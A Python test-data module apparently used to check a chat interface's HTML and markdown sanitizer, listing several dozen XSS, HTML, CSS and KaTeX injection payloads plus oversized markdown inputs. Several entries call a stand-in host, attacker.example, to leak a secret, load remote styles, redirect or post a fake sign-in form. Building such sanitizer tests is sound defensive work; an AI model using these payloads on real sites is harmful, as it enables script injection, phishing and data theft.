"""The XSS / HTML / CSS injection payloads of ATTACKS.md §7 (R-1 … R-36), by stable id; R-37:
custom tags (``Chatbot(allow_tags=True)``); R-38: math (``latex_delimiters``, KaTeX)."""

from __future__ import annotations

NESTED = "<div>" * 300 + "<img src=x onerror=alert(1)>" + "</div>" * 300

R_PAYLOADS: dict[str, str] = {
    "R-1": "<script>alert(1)</script>",
    "R-2": "<img src=x onerror=alert(1)>",
    "R-3": "<svg onload=alert(1)>",
    "R-4": "<svg><script>alert(1)</script></svg>",
    "R-5": '<iframe src="javascript:alert(1)"></iframe>',
    "R-6": '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    "R-7a": '<video><source onerror="alert(1)"></video>',
    "R-7b": "<audio src=x onerror=alert(1)>",
    "R-8a": "<details open ontoggle=alert(1)>x</details>",
    "R-8b": "<input autofocus onfocus=alert(1)>",
    "R-8c": "<body onload=alert(1)> <marquee onstart=alert(1)>m</marquee>",
    "R-9a": '<a href="javascript:alert(1)">a1</a>',
    "R-9b": "[a2](javascript:alert(1))",
    "R-10a": "[a3](JaVaScRiPt:alert(1)) [a4](java&#x09;script:alert(1))",
    "R-10b": "[a5](&#106;avascript:alert(1)) [a6]( javascript:alert(1))",
    "R-10c": '[a7](javascript&colon;alert(1)) <a href="java&#10;script:alert(1)">a8</a>',
    "R-10d": "[a9](java\u200bscript:alert(1))",
    "R-11": "[d1](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    "[d2](vbscript:msgbox(1)) [d3](file:///etc/passwd)",
    "R-12a": "[r1][bad]\n\n[bad]: javascript:alert(1)",
    "R-12b": "<javascript:alert(1)> javascript:alert(1)",
    "R-13": '[t1](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "R-14": '![x" onerror="alert(1)](https://ok.example/a.png)',
    "R-15a": "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "R-15b": "\\`<img src=x onerror=alert(1)>\\`",
    "R-15c": "    <img src=x onerror=alert(1)>\n\n```~\n<svg onload=alert(1)>",
    "R-16a": "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "R-16b": "# <svg onload=alert(1)>\n\n- <img src=x onerror=alert(1)>",
    "R-17": "&lt;img src=x onerror=alert(1)&gt; %3Cscript%3E \\u003cscript\\u003ealert(1)",
    "R-18a": "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "R-18b": '<object data="data:image/svg+xml,<svg onload=alert(1)>"></object> <embed src=x>',
    "R-19a": '<base href="https://attacker.example/">',
    "R-19b": '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
    "R-19c": "<link rel=stylesheet href=https://attacker.example/x.css>",
    "R-20a": "![leak](https://attacker.example/p?d=SECRET)",
    "R-20b": '<img src="https://attacker.example/i.png"> '
    '<div style="background:url(https://attacker.example/b)">styled</div>',
    "R-21": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "R-22": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "R-23": '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    "<img src onerror='alert(1)'>\"></style></h1>",
    "R-24a": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "R-24b": "<style><style><img src=x onerror=alert(1)></style>",
    "R-24c": "<template><img src=x onerror=alert(1)></template>",
    "R-25": NESTED,
    "R-26a": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text y=20>x</text></a></svg>",
    "R-26b": '<svg><a><set attributeName="href" to="javascript:alert(1)" />'
    "<text y=20>y</text></a></svg>",
    "R-27": '$\\href{javascript:alert(1)}{x}$\n\n```mermaid\nclick A "javascript:alert(1)"\n```',
    "R-28": "<form id=ChatWidgetConfig><input name=apiBase value=https://attacker.example>"
    "</form><img name=getElementById><a id=defaultView>",
    "R-29a": '<form action=https://attacker.example><input type=password placeholder="Session">'
    "<button>Sign in</button></form>",
    "R-29b": '<div style="position:fixed;inset:0;z-index:2147483647">Fake login</div>',
    "R-30a": "<style>*{display:none}</style> <style>@import url(//attacker.example/x.css)</style>",
    "R-30b": '<p style="behavior:url(x.htc)">b</p> '
    "<style>@font-face{src:url(//attacker.example);unicode-range:U+0041}</style>",
    "R-31": "[x](https://attacker.example) [https://bank.example](https://attacker.example) "
    "[\u202egnp.exe](https://ok.example)",
    "R-33": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "R-34": '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    "R-35": "<scr\u200bipt>alert(1)</scr\u200bipt> a\u0000b <img src=x o\u0000nerror=alert(1)>",
    "R-36": '"><img src=x onerror=alert(1)>.png <svg onload=alert(1)>.pdf',
    # Chatbot(allow_tags=True), the default: custom tags are shown as text, their content
    # still goes through the sanitizer.
    "R-37": "<thinking onmouseover=alert(1)><img src=x onerror=alert(1)></thinking> "
    "<x-tag><script>alert(1)</script><svg onload=alert(1)></x-tag>",
    # Math (KaTeX, Chatbot's default $$ delimiters): commands that link, style or load, HTML
    # in and around a formula, and the placeholder the renderer uses, forged.
    "R-38a": "$$\\href{javascript:alert(1)}{x}$$ $$\\url{javascript:alert(1)}$$",
    "R-38b": "$$\\htmlStyle{position:fixed;inset:0}{x}\\htmlClass{msg}{y}"
    "\\includegraphics{https://attacker.example/i.png}$$",
    "R-38c": '$$x</code><img src=x onerror=alert(1)>$$ <code class="language-m0-0"></code>',
    "R-38d": "$$\\color{red;background:url(https://attacker.example/c)}{x}"
    "\\colorbox{url(https://attacker.example/b)}{y}$$",
    "R-38e": "$$\\text{<img src=x onerror=alert(1)>}$$ $$<svg onload=alert(1)>$$",
}

#: Payloads cut at every offset (k = 1) and at larger strides by the bot.
SPLIT_STEPS = (1, 2, 3, 5, 8)
SPLIT_PAYLOADS = ("R-2", "R-9a", "R-13", "R-15a", "R-21", "R-22", "R-26a", "R-28", "R-38c")

#: Pathological markdown (R-32), kept small enough for the message limit.
PATHOLOGICAL: dict[str, str] = {
    "brackets": "[" * 15_000,
    "emphasis": "*a" * 7_000,
    "quotes": ">" * 10_000 + " x",
    "table": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000,
    "escapes": "\\_" * 7_000,
    "long-line": "x" * 15_000,
    "newlines": "\n" * 15_000 + "end",
}
